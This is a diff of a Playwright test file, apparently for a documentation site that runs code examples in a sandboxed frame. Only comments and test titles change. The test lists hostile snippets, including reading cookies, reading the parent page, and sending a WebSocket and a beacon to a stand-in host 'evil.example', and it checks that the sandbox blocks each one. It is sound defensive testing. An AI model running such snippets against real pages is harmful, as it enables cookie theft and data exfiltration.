@@ -3,7 +3,7 @@ import { expect, test } from './reader'
 const example = '/query/latest/docs/framework/react/examples/basic'
 const frameAddress = '/frames/example/query/latest/react/basic'
 
-/** What a hostile example may try. Each is a script in the place of the example's own, with all that it was allowed. */
+/** Attacks of a hostile example: each script replaces that of the example, and has all of its permissions. */
 const attacks = {
   'read cookies': 'document.cookie',
   'read the page around it': 'parent.document.title',
@@ -18,7 +18,7 @@ const attacks = {
     "await new Promise((ok, no) => Object.assign(new WebSocket('wss://evil.example/'), { onopen: ok, onerror: no }))",
   'ask by an image':
     "await new Promise((ok, no) => Object.assign(new Image(), { onload: ok, onerror: no }).src = '/favicon.ico')",
-  // Whether it left the frame is seen from outside.
+  // Detected outside the frame.
   'send a beacon': "navigator.sendBeacon('https://evil.example/'); throw 0",
   'load a script':
     "await new Promise((ok, no) => document.head.append(Object.assign(document.createElement('script'), { src: '/_build/x.js', onload: ok, onerror: no })))",
@@ -41,10 +41,10 @@ const attacks = {
 }
 
 test.describe('a hostile example', () => {
-  // What the browser refuses it says on the console.
+  // The browser logs what it blocks.
   test.use({ expectedMessages: [/./] })
 
-  test('reaches nothing outside its frame', async ({ page }) => {
+  test('cannot access anything outside its frame', async ({ page }) => {
     const tries = Object.entries(attacks).map(
       ([name, code]) => `await attempt(${JSON.stringify(name)}, async () => { ${code} });`,
     )
@@ -57,7 +57,7 @@ test.describe('a hostile example', () => {
     document.body.dataset.done = ''
   })()`
     const asked: string[] = []
-    // The browser names a request that the policy refuses, which never leaves it.
+    // A request blocked by the policy is reported, but never finishes.
     page.on('requestfinished', (request) => asked.push(request.url()))
     page.on('requestfailed', (request) => {
       if (request.failure()?.errorText !== 'csp') asked.push(request.url())
@@ -86,7 +86,9 @@ test.describe('a hostile example', () => {
   })
 })
 
-test('an example runs, reloads and stops, with its own files and no script of the page', async ({ page }) => {
+test('an example runs, reloads and stops, using only its own files and no script of the page', async ({
+  page,
+}) => {
   await page.goto(example)
   await page.getByRole('link', { name: 'Preview', exact: true }).click()
   const frame = page.frameLocator('iframe[title="Preview"]')
@@ -149,10 +151,10 @@ test('an example in a guide loads when it is opened, by keys too', async ({ page
   await expect(inside.getByText('Page 1')).toBeVisible()
 })
 
-test.describe('without script', () => {
+test.describe('without JavaScript', () => {
   test.use({ javaScriptEnabled: false })
 
-  test('an example in a guide is its code and a link', async ({ page }) => {
+  test('an example in a guide shows its code and a link', async ({ page }) => {
     await page.goto('/query/latest/docs/framework/react/guides/paginated-queries')
     await expect(page.getByText('src/messages.tsx')).toBeVisible()
     await expect(page.getByRole('link', { name: /^All files of the example/ })).toBeVisible()
